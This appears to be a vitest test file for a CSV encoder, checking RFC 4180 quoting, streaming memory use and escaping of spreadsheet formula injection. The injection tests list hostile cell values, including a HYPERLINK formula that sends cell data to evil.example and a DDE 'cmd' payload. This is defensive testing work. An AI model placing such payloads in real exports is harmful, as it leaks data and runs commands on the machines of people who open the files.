import vm from 'node:vm';
import v8 from 'node:v8';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvLine, csvRows, fixedDecimal, type CsvCell } from './csv-stream.js';

async function collect(lines: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const line of lines) out += line;
  return out;
}

describe('csvCell: formula injection', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
    ],
    ['+1+1', "'+1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['-5', "'-5"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('escapes %j', (input, out) => expect(csvCell(input)).toBe(out));

  it.each([
    ['a=b', 'a=b'],
    ['1+1', '1+1'],
    ['mail@example.com', 'mail@example.com'],
    [' =1', ' =1'],
    ['', ''],
    ["'quoted", "'quoted"],
  ])('leaves %j alone: the formula characters matter only first', (input, out) => expect(csvCell(input)).toBe(out));

  it('never escapes numbers, negative ones included, so spreadsheets can sum them', () => {
    expect([-37.5, -1, 0, -0, 12.5, 1e21, 1e-7].map(csvCell)).toEqual([
      '-37.5',
      '-1',
      '0',
      '0',
      '12.5',
      '1e+21',
      '1e-7',
    ]);
    expect(csvCell(null)).toBe('');
    for (const bad of [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY])
      expect(() => csvCell(bad)).toThrow(RangeError);
  });

  it('prints a fixed-decimal cell padded to its decimals, a negative one unescaped', () => {
    expect(
      [
        fixedDecimal(59.9, 2),
        fixedDecimal(5000, 0),
        fixedDecimal(12.5, 3),
        fixedDecimal(-4.5, 2),
        fixedDecimal(0, 2),
      ].map(csvCell),
    ).toEqual(['59.90', '5000', '12.500', '-4.50', '0.00']);
    expect(() => csvCell(fixedDecimal(Number.NaN, 2))).toThrow(RangeError);
  });
});

describe('csvLine: RFC 4180', () => {
  it('quotes quotes, commas and line breaks, and ends with CRLF', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rlf\r\n', 3, null])).toBe(
      'plain,"a,b","say ""hi""","two\nlines","cr\rlf\r\n",3,\r\n',
    );
    expect(csvLine([])).toBe('\r\n');
  });

  it('round-trips through a CSV parser, with only the formula cells changed', () => {
    const text = fc.string({ unit: 'binary', maxLength: 20 });
    fc.assert(
      fc.property(
        fc.array(fc.oneof(text, fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 6 }),
        (cells) => {
          const [parsed] = parse(csvLine(cells), { relax_quotes: false, record_delimiter: '\r\n' }) as string[][];
          const expected = cells.map((c) =>
            c === null ? '' : typeof c === 'number' ? String(c) : /^[=+\-@\t\r]/.test(c) ? `'${c}` : c,
          );
          expect(parsed).toEqual(expected);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('csvRows', () => {
  it('starts with the BOM and header, then one line per row, from sync or async sources', async () => {
    async function* rows(): AsyncGenerator<CsvCell[]> {
      yield ['code_1', '=1+1', -4.5];
      yield ['code_2', 'ok', 10];
    }
    const expected = `${CSV_BOM}code,note,net_sales\r\ncode_1,'=1+1,-4.5\r\ncode_2,ok,10\r\n`;
    expect(await collect(csvRows(['code', 'note', 'net_sales'], rows()))).toBe(expected);
    expect(
      await collect(
        csvRows(
          ['code', 'note', 'net_sales'],
          [
            ['code_1', '=1+1', -4.5],
            ['code_2', 'ok', 10],
          ],
        ),
      ),
    ).toBe(expected);
    expect(await collect(csvRows(['only', '@header'], []))).toBe(`${CSV_BOM}only,'@header\r\n`);
  });

  it('throws on a row whose width differs from the header', async () => {
    await expect(collect(csvRows(['a', 'b'], [['1', '2'], ['3']]))).rejects.toThrow('row 2 has 1 cells, the header 2');
  });

  it('closes the source when the consumer stops early', async () => {
    let closed = false;
    async function* rows(): AsyncGenerator<CsvCell[]> {
      try {
        for (let i = 0; ; i++) yield [i];
      } finally {
        closed = true;
      }
    }
    let seen = 0;
    for await (const _ of csvRows(['n'], rows())) if (++seen === 3) break;
    expect(closed).toBe(true);
  });

  it('streams 1,000,000 rows pulling one row at a time, with small heap growth', async () => {
    // gc() before each reading, so "after" counts what is retained, not garbage not yet collected.
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    const ROWS = 1_000_000;
    let produced = 0;
    async function* rows(): AsyncGenerator<CsvCell[]> {
      for (let i = 0; i < ROWS; i++) {
        produced += 1;
        yield [`code_${i}`, i % 7 === 0 ? '=HYPERLINK("x")' : 'ok', -i / 100, i, null];
      }
    }
    gc();
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    let lines = 0;
    let bytes = 0;
    let maxAhead = 0; // rows pulled from the source beyond the lines handed out
    const stream = csvRows(['code', 'note', 'net', 'n', 'empty'], rows());
    for await (const line of stream) {
      lines += 1;
      bytes += line.length;
      maxAhead = Math.max(maxAhead, produced - (lines - 1));
      if (lines % 100_000 === 0) peak = Math.max(peak, process.memoryUsage().heapUsed);
    }
    gc();
    const after = process.memoryUsage().heapUsed;
    expect(lines).toBe(ROWS + 1);
    expect(bytes).toBeGreaterThan(30 * ROWS); // ≈ 35 MB of CSV went through…
    expect(maxAhead).toBe(0); // …the encoder never read ahead of the line it was asked for…
    // …garbage between collections stays bounded (~40 MB measured here; an encoder keeping its lines peaks at ~160 MB)…
    expect(peak - before).toBeLessThan(96 * 1024 * 1024);
    expect(after - before).toBeLessThan(8 * 1024 * 1024); // …and nothing is retained (a keeping encoder: ~90 MB).
  });
});
